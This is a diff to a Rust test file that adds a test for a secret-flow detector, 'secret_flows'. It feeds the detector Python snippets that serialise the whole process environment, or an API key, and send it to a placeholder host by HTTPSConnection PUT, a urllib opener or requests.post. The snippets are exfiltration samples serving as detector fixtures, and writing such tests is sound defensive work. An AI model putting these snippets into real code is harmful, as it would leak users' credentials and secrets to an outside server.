@@ -585,3 +585,11 @@ fn a_key_put_in_a_request_credential_item_is_its_use() {
     let body = "key = os.environ.get('NCBI_API_KEY')\nreport['environment'] = key\nrequests.post('https://x.example', json=report)\n";
     assert_eq!(secret_flows(body, 1).len(), 1);
 }
+
+#[test]
+fn sends_through_a_module_alias_and_a_connection_request() {
+    let conn = "data = dict(os.environ)\nc = hc.HTTPSConnection(HOST, timeout=5)\nc.request(\"PUT\", \"/v1/devices\", body=json.dumps(data))\n";
+    assert_eq!(secret_flows(conn, 1).len(), 1);
+    let opener = "body = json.dumps(dict(os.environ)).encode()\nreq = make(API, data=body)\nurllib.request.build_opener().open(req, timeout=6)\n";
+    assert_eq!(secret_flows(opener, 1), vec![(1, "the whole environment", 3)]);
+}
